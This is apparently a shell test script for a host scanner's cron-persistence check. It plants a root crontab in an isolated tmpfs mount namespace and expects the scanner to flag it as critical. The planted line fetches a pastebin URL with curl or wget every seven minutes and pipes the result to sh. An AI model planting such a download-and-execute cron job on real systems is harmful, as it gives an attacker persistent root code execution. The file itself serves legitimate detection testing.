#!/bin/sh
# cron-live.sh - persist.cron on the live root "/": a root crontab planted in a private
# mount namespace (a tmpfs over /var/spool), never in this machine's real files.
set -eu
MT=${MINETRACE:-build/minetrace}
here=$(cd "$(dirname "$0")" && pwd)
fail() { echo "FAIL cron-live: $*"; exit 1; }
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
trap 'exit 130' INT TERM HUP

rc=0
unshare -m sh -eu -c '
	mount --make-rprivate /
	mount -t tmpfs tmpfs /var/spool
	mkdir -p /var/spool/cron/crontabs
	printf "*/7 * * * * (curl -fsSL http://pastebin.com/raw/Xk2 || wget -q -O- http://pastebin.com/raw/Xk2) | sh\n" \
		>/var/spool/cron/crontabs/root
	exec "$1" scan --checks persist.cron --format json
' sh "$MT" >"$work/out.jsonl" || rc=$?
[ $rc -eq 1 ] || fail "exit $rc, expected 1 (a finding at or above medium)"
cat >"$work/expect.jsonl" <<'EOT'
{"check":"persist.cron","severity":"critical","evidence":{"path":"/var/spool/cron/crontabs/root","lineno":1,"user":"root","reasons":"paste_host,download_exec"}}
EOT
# other cron files of this machine may give findings of their own: compare only ours
python3 - "$work/out.jsonl" >"$work/ours.jsonl" <<'EOT'
import json, sys
lines = [l for l in open(sys.argv[1]) if l.strip()]
for l in lines:
    o = json.loads(l)
    if o["type"] in ("host_info", "summary") or (o["type"] == "finding" and o["evidence"].get("path", "").startswith("/var/spool/cron")):
        print(l, end="")
EOT
python3 - "$work/ours.jsonl" <<'EOT'
import json, sys
lines = [json.loads(l) for l in open(sys.argv[1])]
f = [o for o in lines if o["type"] == "finding"]
s = lines[-1]
# recount the summary for the filtered set, so the contract checker sees a whole report
counts = dict((k, 0) for k in s["counts"])
for o in f:
    counts[o["severity"]] += 1
s["counts"], s["total"] = counts, len(f)
with open(sys.argv[1], "w") as out:
    for o in [h for h in lines if h["type"] == "host_info"] + f + [s]:
        out.write(json.dumps(o, ensure_ascii=False) + "\n")
EOT
python3 "$here/../scenario/contract.py" "$work/ours.jsonl" "$work/expect.jsonl" || fail "findings"
python3 "$here/../scenario/contract.py" "$work/out.jsonl" || fail "contract"
echo "cron-live: the planted root crontab was found on the live root"
